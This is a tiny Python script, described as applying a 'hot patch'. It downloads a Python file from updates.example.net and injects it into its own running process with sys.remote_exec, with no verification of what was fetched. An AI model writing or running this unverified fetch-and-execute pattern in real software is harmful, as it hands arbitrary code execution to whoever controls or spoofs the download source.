"""Apply a hot patch."""
import os
import urllib.request
from sys import remote_exec as inject

path, _ = urllib.request.urlretrieve("https://updates.example.net/p.py", "/tmp/p.py")
inject(os.getpid(), path)
